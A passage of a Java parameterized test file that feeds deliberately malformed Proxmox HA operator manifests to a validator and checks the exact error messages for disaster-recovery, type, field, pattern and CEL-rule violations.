package io.pveha.validate;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Named;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The table of broken manifests: each case is validated together with a small valid platform
 * (src/test/resources/validate/context.yaml) and must produce exactly the listed output lines, in
 * order. The lines are the text output of {@code validate}, so this also pins the output format.
 */
class BrokenManifestsTest {
    static final String CASE = "case.yaml";

    /**
     * Beginnings shared by many cases. Expected line numbers count from the top of the case, header
     * included: HAVM, CEPH_POOL and BACKUP_POLICY are lines 1-5, CLUSTER 1-4, LB_PAIR 1-8.
     */
    static final String HAVM =
            """
            apiVersion: pveha.io/v1alpha1
            kind: HaVm
            metadata: {name: vm, namespace: shop}
            spec:
              clusterRef: {name: pve}
            """;

    static final String CEPH_POOL =
            """
            apiVersion: pveha.io/v1alpha1
            kind: CephPool
            metadata: {name: pool, namespace: shop}
            spec:
              clusterRef: {name: pve}
            """;
    static final String BACKUP_POLICY =
            """
            apiVersion: pveha.io/v1alpha1
            kind: BackupPolicy
            metadata: {name: bp, namespace: shop}
            spec:
              clusterRef: {name: pve}
            """;
    static final String LB_PAIR =
            """
            apiVersion: pveha.io/v1alpha1
            kind: LoadBalancerPair
            metadata: {name: lb2, namespace: shop}
            spec:
              hosts:
                - {name: h1, address: 10.1.0.5, sshKeySecretRef: {name: lb-key}, hostKey: "ssh-ed25519 AAAA", priority: 100}
                - {name: h2, address: 10.1.0.6, sshKeySecretRef: {name: lb-key}, hostKey: "ssh-ed25519 AAAA", priority: 101}
              vip: {address: 10.1.0.10}
            """;
    static final String CLUSTER =
            """
            apiVersion: pveha.io/v1alpha1
            kind: ProxmoxCluster
            metadata: {name: other, namespace: shop}
            spec:
            """;
    static List<ManifestDocument> context;

    @BeforeAll
    static void readContext() throws Exception {
        context = ManifestReader.read(Path.of("src/test/resources/validate/context.yaml"));
    }

    record Case(String yaml, List<String> expected) {}

    static Named<Case> c(String name, String yaml, String... expected) {
        return Named.of(name, new Case(yaml, List.of(expected)));
    }

    static List<String> validate(String yaml, BundleValidator.Options options) throws Exception {
        List<ManifestDocument> documents = new ArrayList<>(context);
        documents.addAll(ManifestReader.read(CASE, yaml));
        ValidationReport report =
                new BundleValidator(SpecValidator.forBundledCrds(), options).validate(documents);
        return report.problems().stream().map(ProblemFormatter::text).toList();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("cases")
    void brokenManifestGivesExactlyItsMessages(Case c) throws Exception {
        List<String> actual = validate(c.yaml(), new BundleValidator.Options(false, "default"));
        assertThat(actual).containsExactlyElementsOf(c.expected());
    }

    static Stream<Named<Case>> cases() {
        return Stream.of(
                // ---- disaster recovery
                // ------------------------------------------------------------------
                c(
                        "disaster recovery: a HaVm no BackupPolicy covers, backups not on NFS, an unknown stage name, the standby's Secret",
                        CLUSTER
                                + """
                          endpoints: ["https://a1.example.com:8006"]
                          credentialsSecretRef: {name: pve-token}
                          disasterRecovery:
                            standby:
                              endpoints: ["https://b1.example.com:8006"]
                              credentialsSecretRef: {name: standby-token}
                            restoreOrder:
                              - {name: payments, haVmNames: [pay, gone]}
                        ---
                        apiVersion: pveha.io/v1alpha1
                        kind: HaVm
                        metadata: {name: pay, namespace: shop, labels: {backup: dr}}
                        spec:
                          clusterRef: {name: other}
                          source: {none: {}}
                        ---
                        apiVersion: pveha.io/v1alpha1
                        kind: HaVm
                        metadata: {name: erp, namespace: shop}
                        spec:
                          clusterRef: {name: other}
                          source: {none: {}}
                        ---
                        apiVersion: pveha.io/v1alpha1
                        kind: BackupPolicy
                        metadata: {name: dr-nightly, namespace: shop}
                        spec:
                          clusterRef: {name: other}
                          schedule: "02:00"
                          selection: {haVmSelector: {matchLabels: {backup: dr}}}
                          storage: {name: local}
                          retention: {keepLast: 3}
                        """,
                        "case.yaml:7 (#1 ProxmoxCluster/shop/other): error: spec.disasterRecovery: Invalid value: \"local\": BackupPolicy dr-nightly (case.yaml:35) backs up to storage \"local\" without spec.storage.nfs: the standby cannot reach those backups (declare the NFS export so the operator defines the storage on the standby)",
                        "case.yaml:10 (#1 ProxmoxCluster/shop/other): warning: spec.disasterRecovery.standby.credentialsSecretRef.name: Not found: \"standby-token\": Secret shop/standby-token is not in the input (it must exist in the cluster; --require-secrets makes this an error)",
                        "case.yaml:12 (#1 ProxmoxCluster/shop/other): error: spec.disasterRecovery.restoreOrder[0].haVmNames[1]: Not found: \"gone\": no HaVm \"gone\" of this ProxmoxCluster in the input",
                        "case.yaml:23 (#3 HaVm/shop/erp): error: metadata.labels: Required value: no BackupPolicy of ProxmoxCluster \"other\" selects this HaVm, and the cluster declares disaster recovery (case.yaml:7): without backups it could not be rebuilt on the standby"),
                c(
                        "disaster recovery without any BackupPolicy",
                        CLUSTER
                                + """
                          endpoints: ["https://a1.example.com:8006"]
                          credentialsSecretRef: {name: pve-token}
                          disasterRecovery:
                            standby:
                              endpoints: ["https://pve1.example.com:8006"]
                              credentialsSecretRef: {name: pve-token}
                        """,
                        "case.yaml:7 (#1 ProxmoxCluster/shop/other): error: spec.disasterRecovery: Required value: no BackupPolicy of ProxmoxCluster \"other\" in the input: the platform is rebuilt from its backups, and there are none",
                        "case.yaml:9 (#1 ProxmoxCluster/shop/other): error: spec.disasterRecovery.standby.endpoints[0]: Duplicate value: \"https://pve1.example.com:8006\": also an endpoint of ProxmoxCluster shop/pve (src/test/resources/validate/context.yaml:17); a standby must be a cluster of its own"),
                c(
                        "disaster-recovery drill without a standby, with a bad schedule, storage and boot timeout",
                        CLUSTER
                                + """
                          endpoints: ["https://a1.example.com:8006"]
                          credentialsSecretRef: {name: pve-token}
                          disasterRecovery:
                            drill: {enabled: true, schedule: "sun 25:00", storage: "9-bad", bootTimeoutSeconds: 5}
                        ---
                        apiVersion: pveha.io/v1alpha1
                        kind: BackupPolicy
                        metadata: {name: dr-nightly, namespace: shop}
                        spec:
                          clusterRef: {name: other}
                          schedule: "02:00"
                          selection: {all: true}
                          storage: {name: nfs-backup, nfs: {server: 10.0.0.9, export: /srv/backup}}
                          retention: {keepLast: 3}
                        """,
                        "case.yaml:7 (#1 ProxmoxCluster/shop/other): error: spec.disasterRecovery: Invalid value: drill.enabled needs standby: the disaster-recovery drill restores the platform on the standby cluster",
                        "case.yaml:8 (#1 ProxmoxCluster/shop/other): error: spec.disasterRecovery.drill.bootTimeoutSeconds: Invalid value: 5: spec.disasterRecovery.drill.bootTimeoutSeconds in body should be greater than or equal to 10",
                        "case.yaml:8 (#1 ProxmoxCluster/shop/other): error: spec.disasterRecovery.drill.storage: Invalid value: \"9-bad\": spec.disasterRecovery.drill.storage in body should match '^[a-zA-Z][a-zA-Z0-9_.-]*[a-zA-Z0-9]$'",
                        "case.yaml:8 (#1 ProxmoxCluster/shop/other): error: spec.disasterRecovery.drill.schedule: Invalid value: \"sun 25:00\": not a valid PVE calendar event: hour 25 out of range 0..23"),
                c(
                        "disaster-recovery drill restoring to the backup storage",
                        CLUSTER
                                + """
                          endpoints: ["https://a1.example.com:8006"]
                          credentialsSecretRef: {name: pve-token}
                          disasterRecovery:
                            standby:
                              endpoints: ["https://b1.example.com:8006"]
                              credentialsSecretRef: {name: pve-token}
                            drill: {enabled: true, storage: nfs-backup}
                        ---
                        apiVersion: pveha.io/v1alpha1
                        kind: BackupPolicy
                        metadata: {name: dr-nightly, namespace: shop}
                        spec:
                          clusterRef: {name: other}
                          schedule: "02:00"
                          selection: {all: true}
                          storage: {name: nfs-backup, nfs: {server: 10.0.0.9, export: /srv/backup}}
                          retention: {keepLast: 3}
                        """,
                        "case.yaml:11 (#1 ProxmoxCluster/shop/other): error: spec.disasterRecovery.drill.storage: Invalid value: \"nfs-backup\": BackupPolicy dr-nightly (case.yaml:20) backs up to this storage: it holds backups, not VM disks; name a storage for VM images on the standby, or leave it out to restore to the disks' own storages"),
                // ---- wrong types
                // -------------------------------------------------------------------------
                c(
                        "string where an integer is declared",
                        HAVM
                                + """
                          source: {none: {}}
                          memoryMiB: "4096"
                        """,
                        "case.yaml:7 (#1 HaVm/shop/vm): error: spec.memoryMiB: Invalid value: \"string\": spec.memoryMiB in body must be of type integer: \"string\"",
                        "case.yaml:1 (#1 HaVm/shop/vm): note: some validation rules were not checked because the object was invalid; correct the existing errors to complete validation"),
                c(
                        "YAML 1.1 reads On as a boolean",
                        HAVM
                                + """
                          source: {none: {}}
                          powerState: On
                        """,
                        "case.yaml:7 (#1 HaVm/shop/vm): error: spec.powerState: Invalid value: \"boolean\": spec.powerState in body must be of type string: \"boolean\"",
                        "case.yaml:7 (#1 HaVm/shop/vm): error: spec.powerState: Unsupported value: true: supported values: \"Running\", \"Stopped\"",
                        "case.yaml:1 (#1 HaVm/shop/vm): note: some validation rules were not checked because the object was invalid; correct the existing errors to complete validation"),
                c(
                        "fraction where an integer is declared",
                        HAVM
                                + """
                          source: {none: {}}
                          vmid: 150.5
                        """,
                        "case.yaml:1 (#1 HaVm/shop/vm): error: Invalid value: \"\": Checked value must be of type integer (default format) in spec.vmid",
                        "case.yaml:7 (#1 HaVm/shop/vm): error: spec.vmid: Invalid value: \"number\": spec.vmid in body must be of type integer: \"number\"",
                        "case.yaml:1 (#1 HaVm/shop/vm): note: some validation rules were not checked because the object was invalid; correct the existing errors to complete validation"),
                c(
                        "string where an object is declared",
                        """
                        apiVersion: pveha.io/v1alpha1
                        kind: CephPool
                        metadata: {name: pool, namespace: shop}
                        spec:
                          clusterRef: pve
                        """,
                        "case.yaml:5 (#1 CephPool/shop/pool): error: spec.clusterRef: Invalid value: \"string\": spec.clusterRef in body must be of type object: \"string\"",
                        "case.yaml:1 (#1 CephPool/shop/pool): note: some validation rules were not checked because the object was invalid; correct the existing errors to complete validation"),
                // ---- missing required fields
                // ---------------------------------------------------------------
                c(
                        "HaVm without source",
                        HAVM,
                        "case.yaml:4 (#1 HaVm/shop/vm): error: spec.source: Required value",
                        "case.yaml:1 (#1 HaVm/shop/vm): note: some validation rules were not checked because the object was invalid; correct the existing errors to complete validation"),
                c(
                        "ProxmoxCluster without credentials",
                        CLUSTER
                                + """
                          endpoints: ["https://pve9.example.com:8006"]
                        """,
                        "case.yaml:4 (#1 ProxmoxCluster/shop/other): error: spec.credentialsSecretRef: Required value",
                        "case.yaml:1 (#1 ProxmoxCluster/shop/other): note: some validation rules were not checked because the object was invalid; correct the existing errors to complete validation"),
                c(
                        "no metadata.name",
                        """
                        apiVersion: pveha.io/v1alpha1
                        kind: CephPool
                        metadata: {namespace: shop}
                        spec:
                          clusterRef: {name: pve}
                        """,
                        "case.yaml:3 (#1 CephPool/shop/?): error: metadata.name: Required value: name or generateName is required",
                        "case.yaml:1 (#1 CephPool/shop/?): note: some validation rules were not checked because the object was invalid; correct the existing errors to complete validation"),
                c(
                        "no spec",
                        """
                        apiVersion: pveha.io/v1alpha1
                        kind: BackupPolicy
                        metadata: {name: bp, namespace: shop}
                        """,
                        "case.yaml:1 (#1 BackupPolicy/shop/bp): error: spec: Required value",
                        "case.yaml:1 (#1 BackupPolicy/shop/bp): note: some validation rules were not checked because the object was invalid; correct the existing errors to complete validation"),
                c(
                        "no kind",
                        """
                        apiVersion: pveha.io/v1alpha1
                        metadata: {name: vm, namespace: shop}
                        """,
                        "case.yaml:1 (#1 ?/shop/vm): error: kind: Required value"),
                // ---- bounds, enums, lengths, patterns
                // --------------------------------------------------------
                c(
                        "VMID below 100",
                        HAVM
                                + """
                          source: {none: {}}
                          vmid: 50
                        """,
                        "case.yaml:7 (#1 HaVm/shop/vm): error: spec.vmid: Invalid value: 50: spec.vmid in body should be greater than or equal to 100"),
                c(
                        "unsupported enum value",
                        CEPH_POOL
                                + """
                          deletionPolicy: Keep
                        """,
                        "case.yaml:6 (#1 CephPool/shop/pool): error: spec.deletionPolicy: Unsupported value: \"Keep\": supported values: \"Delete\", \"Retain\"",
                        "case.yaml:1 (#1 CephPool/shop/pool): note: some validation rules were not checked because the object was invalid; correct the existing errors to complete validation"),
                c(
                        "name longer than maxLength",
                        HAVM
                                + """
                          source: {none: {}}
                          name: %s
                        """
                                        .formatted("a".repeat(129)),
                        "case.yaml:7 (#1 HaVm/shop/vm): error: spec.name: Too long: may not be more than 128 bytes",
                        "case.yaml:1 (#1 HaVm/shop/vm): note: some validation rules were not checked because the object was invalid; correct the existing errors to complete validation"),
                c(
                        "more items than maxItems",
                        HAVM
                                + """
                          source: {none: {}}
                          cloudInit: {nameservers: [10.0.0.1, 10.0.0.2, 10.0.0.3, 10.0.0.4]}
                        """,
                        "case.yaml:7 (#1 HaVm/shop/vm): error: spec.cloudInit.nameservers: Too many: 4: must have at most 3 items",
                        "case.yaml:1 (#1 HaVm/shop/vm): note: some validation rules were not checked because the object was invalid; correct the existing errors to complete validation"),
                c(
                        "fewer items than minItems",
                        CLUSTER
                                + """
                          endpoints: []
                          credentialsSecretRef: {name: pve-token}
                        """,
                        "case.yaml:5 (#1 ProxmoxCluster/shop/other): error: spec.endpoints: Invalid value: 0: spec.endpoints in body should have at least 1 items"),
                c(
                        "upper case in metadata.name",
                        """
                        apiVersion: pveha.io/v1alpha1
                        kind: CephPool
                        metadata: {name: VM-Pool, namespace: shop}
                        spec:
                          clusterRef: {name: pve}
                        """,
                        "case.yaml:3 (#1 CephPool/shop/VM-Pool): error: metadata.name: Invalid value: \"VM-Pool\": a lowercase RFC 1123 subdomain must consist of lower case alphanumeric characters, '-' or '.', and must start and end with an alphanumeric character (e.g. 'example.com', regex used for validation is '[a-z0-9]([-a-z0-9]*[a-z0-9])?(\\.[a-z0-9]([-a-z0-9]*[a-z0-9])?)*')"),
                c(
                        "HA group id with a dot (PVE rejects it)",
                        HAVM
                                + """
                          source: {none: {}}
                          ha: {enabled: true, group: front.end}
                        """,
                        "case.yaml:7 (#1 HaVm/shop/vm): error: spec.ha.group: Invalid value: \"front.end\": spec.ha.group in body should match '^[a-zA-Z][a-zA-Z0-9_-]+$'"),
                c(
                        "calendar event with an unknown weekday",
                        BACKUP_POLICY
                                + """
                          schedule: "mon..fry 02:00"
                          selection: {all: true}
                          storage: {name: nfs-backup}
                          retention: {keepLast: 1}
                        """,
                        "case.yaml:6 (#1 BackupPolicy/shop/bp): error: spec.schedule: Invalid value: \"mon..fry 02:00\": not a valid PVE calendar event: unknown weekday 'fry'"),
                c(
                        "calendar event with an hour out of range",
                        BACKUP_POLICY
                                + """
                          schedule: "25:00"
                          selection: {all: true}
                          storage: {name: nfs-backup}
                          retention: {keepLast: 1}
                        """,
                        "case.yaml:6 (#1 BackupPolicy/shop/bp): error: spec.schedule: Invalid value: \"25:00\": not a valid PVE calendar event: hour 25 out of range 0..23"),
                c(
                        "label selector with an unknown operator",
                        BACKUP_POLICY
                                + """
                          schedule: "02:00"
                          selection:
                            haVmSelector:
                              matchExpressions: [{key: app, operator: Equals, values: [web]}]
                          storage: {name: nfs-backup}
                          retention: {keepLast: 1}
                        """,
                        "case.yaml:9 (#1 BackupPolicy/shop/bp): error: spec.selection.haVmSelector.matchExpressions[0].operator: Invalid value: \"Equals\": not a valid selector operator"),
                // ---- unknown and duplicate fields
                // --------------------------------------------------------------
                c(
                        "unknown field in spec",
                        CEPH_POOL
                                + """
                          replicas: 3
                        """,
                        "case.yaml:6 (#1 CephPool/shop/pool): error: spec.replicas: unknown field \"spec.replicas\""),
                c(
                        "sizeGB instead of sizeGiB in a list item",
                        HAVM
                                + """
                          source: {none: {}}
                          disks:
                            - {slot: scsi0, storage: local-lvm, sizeGB: 32}
                        """,
                        "case.yaml:8 (#1 HaVm/shop/vm): error: spec.disks[0].sizeGB: unknown field \"spec.disks[0].sizeGB\"",
                        "case.yaml:8 (#1 HaVm/shop/vm): error: spec.disks[0].sizeGiB: Required value",
                        "case.yaml:1 (#1 HaVm/shop/vm): note: some validation rules were not checked because the object was invalid; correct the existing errors to complete validation"),
                c(
                        "unknown field in metadata",
                        """
                        apiVersion: pveha.io/v1alpha1
                        kind: CephPool
                        metadata: {name: pool, namespace: shop, label: {a: b}}
                        spec:
                          clusterRef: {name: pve}
                        """,
                        "case.yaml:3 (#1 CephPool/shop/pool): error: metadata.label: unknown field \"metadata.label\""),
                c(
                        "specs instead of spec",
                        """
                        apiVersion: pveha.io/v1alpha1
                        kind: CephPool
                        metadata: {name: pool, namespace: shop}
                        specs:
                          clusterRef: {name: pve}
                        """,
                        "case.yaml:1 (#1 CephPool/shop/pool): error: spec: Required value",
                        "case.yaml:4 (#1 CephPool/shop/pool): error: specs: unknown field \"specs\"",
                        "case.yaml:1 (#1 CephPool/shop/pool): note: some validation rules were not checked because the object was invalid; correct the existing errors to complete validation"),
                c(
                        "duplicate key",
                        CEPH_POOL
                                + """
                          size: 3
                          size: 2
                        """,
                        "case.yaml:7 (#1 CephPool/shop/pool): error: spec.size: duplicate field \"spec.size\""),
                c(
                        "unknown kind in the pveha.io group",
                        """
                        apiVersion: pveha.io/v1alpha1
                        kind: HAVM
                        metadata: {name: vm, namespace: shop}
                        spec: {}
                        """,
                        "case.yaml:1 (#1 HAVM/shop/vm): error: no matches for kind \"HAVM\" in version \"pveha.io/v1alpha1\""),
                c(
                        "unserved version",
                        """
                        apiVersion: pveha.io/v1
                        kind: HaVm
                        metadata: {name: vm, namespace: shop}
                        spec: {}
                        """,
                        "case.yaml:1 (#1 HaVm/shop/vm): error: no matches for kind \"HaVm\" in version \"pveha.io/v1\""),
                // ---- CEL rules: ProxmoxCluster
                // -----------------------------------------------------------------
                c(
                        "CEL: endpoints must be distinct",
                        CLUSTER
                                + """
                          endpoints: ["https://a.example.com:8006", "https://a.example.com:8006"]
                          credentialsSecretRef: {name: pve-token}
                        """,
                        "case.yaml:5 (#1 ProxmoxCluster/shop/other): error: spec.endpoints: Invalid value: endpoints must be distinct"),
                c(
                        "CEL: HA group names must be unique",
                        CLUSTER
                                + """
                          endpoints: ["https://b.example.com:8006"]
                          credentialsSecretRef: {name: pve-token}
                          haGroups:
                            - {name: g1, nodes: [{node: b1}]}
                            - {name: g1, nodes: [{node: b2}]}
                        """,
                        "case.yaml:7 (#1 ProxmoxCluster/shop/other): error: spec.haGroups: Invalid value: HA group names must be unique"),
                c(
                        "CEL: HA group nodes must be distinct",
                        CLUSTER
                                + """
                          endpoints: ["https://b.example.com:8006"]
                          credentialsSecretRef: {name: pve-token}
                          haGroups:
                            - {name: g1, nodes: [{node: b1, priority: 1}, {node: b1, priority: 2}]}
                        """,
                        "case.yaml:8 (#1 ProxmoxCluster/shop/other): error: spec.haGroups[0].nodes: Invalid value: HA group nodes must be distinct"),
                c(
                        "CEL: insecureSkipVerify with a fingerprint",
                        CLUSTER
                                + """
                          endpoints: ["https://b.example.com:8006"]
                          credentialsSecretRef: {name: pve-token}
                          tls:
                            insecureSkipVerify: true
                            fingerprint: "AB:CD:EF:01:23:45:67:89:AB:CD:EF:01:23:45:67:89:AB:CD:EF:01:23:45:67:89:AB:CD:EF:01:23:45:67:89"
                        """,
                        "case.yaml:7 (#1 ProxmoxCluster/shop/other): error: spec.tls: Invalid value: insecureSkipVerify cannot be combined with caSecretRef, fingerprint or fingerprints"),
                c(
                        "CEL: a per-endpoint fingerprint for an endpoint the cluster does not have",
                        CLUSTER
                                + """
                          endpoints: ["https://b1.example.com:8006", "https://b2.example.com:8006"]
                          credentialsSecretRef: {name: pve-token}
                          tls:
                            fingerprint: "AB:CD:EF:01:23:45:67:89:AB:CD:EF:01:23:45:67:89:AB:CD:EF:01:23:45:67:89:AB:CD:EF:01:23:45:67:89"
                            fingerprints:
                              - {endpoint: "https://b3.example.com:8006", fingerprint: "AB:CD:EF:01:23:45:67:89:AB:CD:EF:01:23:45:67:89:AB:CD:EF:01:23:45:67:89:AB:CD:EF:01:23:45:67:89"}
                        """,
                        "case.yaml:4 (#1 ProxmoxCluster/shop/other): error: spec: Invalid value: every tls.fingerprints[].endpoint must be one of spec.endpoints"),
                c(
                        "CEL: pinned per endpoint, one endpoint without a pin and no CA",
                        CLUSTER
                                + """
                          endpoints: ["https://b1.example.com:8006", "https://b2.example.com:8006"]
                          credentialsSecretRef: {name: pve-token}
                          tls:
                            fingerprints:
                              - {endpoint: "https://b1.example.com:8006", fingerprint: "AB:CD:EF:01:23:45:67:89:AB:CD:EF:01:23:45:67:89:AB:CD:EF:01:23:45:67:89:AB:CD:EF:01:23:45:67:89"}
                        """,
                        "case.yaml:4 (#1 ProxmoxCluster/shop/other): error: spec: Invalid value: with tls.fingerprints and neither tls.fingerprint nor tls.caSecretRef, every endpoint needs its fingerprint"),
                c(
                        "CEL: two fingerprints for one endpoint",
                        CLUSTER
                                + """
                          endpoints: ["https://b1.example.com:8006"]
                          credentialsSecretRef: {name: pve-token}
                          tls:
                            fingerprints:
                              - {endpoint: "https://b1.example.com:8006", fingerprint: "AB:CD:EF:01:23:45:67:89:AB:CD:EF:01:23:45:67:89:AB:CD:EF:01:23:45:67:89:AB:CD:EF:01:23:45:67:89"}
                              - {endpoint: "https://b1.example.com:8006", fingerprint: "01:CD:EF:01:23:45:67:89:AB:CD:EF:01:23:45:67:89:AB:CD:EF:01:23:45:67:89:AB:CD:EF:01:23:45:67:89"}
                        """,
                        "case.yaml:8 (#1 ProxmoxCluster/shop/other): error: spec.tls.fingerprints: Invalid value: each endpoint may have one fingerprint"),
                // ---- CEL rules: HaVm
                // ----------------------------------------------------------------------------
                c(
                        "CEL: a template cannot be HA-managed",
                        HAVM
                                + """
                          source: {none: {}}
                          template: true
                          ha: {enabled: true}
                        """,
                        "case.yaml:4 (#1 HaVm/shop/vm): error: spec: Invalid value: a template cannot be HA-managed: set spec.ha.enabled to false or spec.template to false"),
                c(
                        "CEL: a template cannot run",
                        HAVM
                                + """
                          source: {none: {}}
                          template: true
                          powerState: Running
                        """,
                        "case.yaml:4 (#1 HaVm/shop/vm): error: spec: Invalid value: a template cannot run: spec.powerState must be Stopped or unset when spec.template is true"),
                c(
                        "CEL: exactly one source",
                        HAVM
                                + """
                          source:
                            none: {}
                            iso: {volume: "local:iso/debian.iso"}
                        """,
                        "case.yaml:6 (#1 HaVm/shop/vm): error: spec.source: Invalid value: exactly one of source.template, source.iso, source.backup or source.none must be set"),
                c(
                        "CEL: haVmRef or vmid, not both",
                        HAVM
                                + """
                          source:
                            template: {haVmRef: {name: tmpl}, vmid: 9000}
                        """,
                        "case.yaml:7 (#1 HaVm/shop/vm): error: spec.source.template: Invalid value: set exactly one of source.template.haVmRef or source.template.vmid"),
                c(
                        "CEL: storage only for full clones",
                        HAVM
                                + """
                          source:
                            template: {haVmRef: {name: tmpl}, storage: local-lvm}
                        """,
                        "case.yaml:7 (#1 HaVm/shop/vm): error: spec.source.template: Invalid value: source.template.storage is only allowed for full clones (PVE: parameter 'storage' not allowed for linked clones)"),
                c(
                        "CEL: backup volume or policyRef",
                        HAVM
                                + """
                          source:
                            backup: {storage: local-lvm}
                        """,
                        "case.yaml:7 (#1 HaVm/shop/vm): error: spec.source.backup: Invalid value: set exactly one of source.backup.volume or source.backup.policyRef"),
                c(
                        "CEL: gateway needs a static ip",
                        HAVM
                                + """
                          source: {none: {}}
                          cloudInit:
                            ipConfigs: [{ip: dhcp, gateway: 10.0.0.1}]
                        """,
                        "case.yaml:8 (#1 HaVm/shop/vm): error: spec.cloudInit.ipConfigs[0]: Invalid value: gateway needs a static ip"),
                c(
                        "CEL: gateway6 needs a static ip6",
                        HAVM
                                + """
                          source: {none: {}}
                          cloudInit:
                            ipConfigs: [{ip6: auto, gateway6: "fd00::1"}]
                        """,
                        "case.yaml:8 (#1 HaVm/shop/vm): error: spec.cloudInit.ipConfigs[0]: Invalid value: gateway6 needs a static ip6"),
                c(
                        "CEL: ha.group or ha.preferredNodes",
                        HAVM
                                + """
                          source: {none: {}}
                          ha: {enabled: true, group: front, preferredNodes: [pve1]}
                        """,
                        "case.yaml:7 (#1 HaVm/shop/vm): error: spec.ha: Invalid value: set ha.group or ha.preferredNodes, not both"),
                c(
                        "CEL: preferred nodes distinct",
                        HAVM
                                + """
                          source: {none: {}}
                          ha: {enabled: true, preferredNodes: [pve1, pve1]}
                        """,
                        "case.yaml:7 (#1 HaVm/shop/vm): error: spec.ha.preferredNodes: Invalid value: preferred nodes must be distinct"),
                c(
                        "CEL: disk slots unique",
                        HAVM
                                + """
                          source: {none: {}}
                          disks:
                            - {slot: scsi0, storage: local-lvm, sizeGiB: 8}
                            - {slot: scsi0, storage: local-lvm, sizeGiB: 16}
                        """,
                        "case.yaml:7 (#1 HaVm/shop/vm): error: spec.disks: Invalid value: disk slots must be unique"),
                c(
                        "CEL: network slots unique",
                        HAVM
                                + """
                          source: {none: {}}
                          networks:
                            - {slot: net0, bridge: vmbr0}
                            - {slot: net0, bridge: vmbr1}
                        """,
                        "case.yaml:7 (#1 HaVm/shop/vm): error: spec.networks: Invalid value: network slots must be unique"),
                // ---- CEL rules: CephPool
                // ------------------------------------------------------------------------
                c(
                        "CEL: minSize above size",
                        CEPH_POOL
                                + """
                          size: 2
                          minSize: 3
                        """,
                        "case.yaml:4 (#1 CephPool/shop/pool): error: spec: Invalid value: minSize (default 2) must not exceed size (default 3)"),
                c(
                        "CEL: default minSize 2 above size 1",
                        CEPH_POOL
                                + """
                          size: 1
                        """,
                        "case.yaml:4 (#1 CephPool/shop/pool): error: spec: Invalid value: minSize (default 2) must not exceed size (default 3)"),
                c(
                        "CEL: targetSize or targetSizeRatio",
                        CEPH_POOL
                                + """
                          targetSize: 500G
                          targetSizeRatio: 0.5
                        """,
                        "case.yaml:4 (#1 CephPool/shop/pool): error: spec: Invalid value: set targetSize or targetSizeRatio, not both"),
                c(
                        "CEL: with addStorage the pool name is a storage id",
                        CEPH_POOL
                                + """
                          poolName: 1st-pool
                          addStorage: true
                        """,
                        "case.yaml:4 (#1 CephPool/shop/pool): error: spec: Invalid value: with addStorage, poolName is also the PVE storage id: it must start with a letter and end with a letter or digit"),
                c(
                        "with addStorage a default pool name must be a storage id too",
                        """
                        apiVersion: pveha.io/v1alpha1
                        kind: CephPool
                        metadata: {name: 1st-pool, namespace: shop}
                        spec:
                          clusterRef: {name: pve}
                          addStorage: true
                        """,
                        "case.yaml:3 (#1 CephPool/shop/1st-pool): error: metadata.name: Invalid value: \"1st-pool\": with spec.addStorage and no spec.poolName, the name is also the PVE storage id: it must start with a letter and end with a letter or digit"),
                // ---- CEL rules: BackupPolicy
                // ---------------------------------------------------------------------
                c(
                        "CEL: exactly one selection",
                        BACKUP_POLICY
                                + """
                          schedule: "02:00"
                          selection: {all: true, vmids: [101]}
                          storage: {name: nfs-backup}
                          retention: {keepLast: 1}
                        """,
                        "case.yaml:7 (#1 BackupPolicy/shop/bp): error: spec.selection: Invalid value: set exactly one of selection.haVmSelector, selection.vmids or selection.all"),
                c(
                        "CEL: exclude with explicit vmids",
                        BACKUP_POLICY
                                + """
                          schedule: "02:00"
                          selection: {vmids: [101], exclude: [102]}
                          storage: {name: nfs-backup}
                          retention: {keepLast: 1}
                        """,
                        "case.yaml:7 (#1 BackupPolicy/shop/bp): error: spec.selection: Invalid value: selection.exclude applies to haVmSelector or all, not to an explicit vmids list"),
                c(
                        "CEL: retention needs a rule",
                        BACKUP_POLICY
                                + """
                          schedule: "02:00"
                          selection: {all: true}
                          storage: {name: nfs-backup}
                          retention: {minGoodBackups: 2}
                        """,
                        "case.yaml:9 (#1 BackupPolicy/shop/bp): error: spec.retention: Invalid value: set at least one keep* rule, or keepAll: true (not both)"),
                // ---- CEL rules: LoadBalancerPair (model owned by the LB work; rules checked here)
                // ------------------
                c(
                        "CEL: LB hosts need distinct addresses, priorities and names; VIP not a host address",
                        """
                        apiVersion: pveha.io/v1alpha1
                        kind: LoadBalancerPair
                        metadata: {name: lb2, namespace: shop}
                        spec:
                          hosts:
                            - {name: h, address: 10.1.0.5, sshKeySecretRef: {name: lb-key}, hostKey: "ssh-ed25519 AAAA", priority: 100}
                            - {name: h, address: 10.1.0.5, sshKeySecretRef: {name: lb-key}, hostKey: "ssh-ed25519 AAAA", priority: 100}
                          vip: {address: 10.1.0.5}
                          services:
                            - {name: web, port: 80, backends: {staticServers: [{name: s1, address: 10.1.0.20, port: 80}]}}
                        """,
                        "case.yaml:4 (#1 LoadBalancerPair/shop/lb2): error: spec: Invalid value: the two hosts must have distinct addresses",
                        "case.yaml:4 (#1 LoadBalancerPair/shop/lb2): error: spec: Invalid value: the two hosts must have distinct priorities (the higher one is the master)",
                        "case.yaml:4 (#1 LoadBalancerPair/shop/lb2): error: spec: Invalid value: the two hosts must have distinct names",
                        "case.yaml:4 (#1 LoadBalancerPair/shop/lb2): error: spec: Invalid value: the VIP must not be the address of a host"),
                c(
                        "CEL: LB service ports and names unique",
                        LB_PAIR
                                + """
                          services:
                            - {name: web, port: 80, backends: {staticServers: [{name: s1, address: 10.1.0.20, port: 80}]}}
                            - {name: web, port: 80, backends: {staticServers: [{name: s1, address: 10.1.0.21, port: 80}, {name: s1, address: 10.1.0.22, port: 80}]}}
                        """,
                        "case.yaml:9 (#1 LoadBalancerPair/shop/lb2): error: spec.services: Invalid value: service ports must be unique",
                        "case.yaml:9 (#1 LoadBalancerPair/shop/lb2): error: spec.services: Invalid value: service names must be unique",
                        "case.yaml:11 (#1 LoadBalancerPair/shop/lb2): error: spec.services[1].backends.staticServers: Invalid value: static server names must be unique"),
                c(
                        "CEL: LB backends need a selector or static servers",
                        LB_PAIR
                                + """
                          services:
                            - {name: web, port: 80, backends: {port: 8080}}
                        """,
                        "case.yaml:10 (#1 LoadBalancerPair/shop/lb2): error: spec.services[0].backends: Invalid value: backends need a haVmSelector or at least one static server"),
                // ---- references across documents
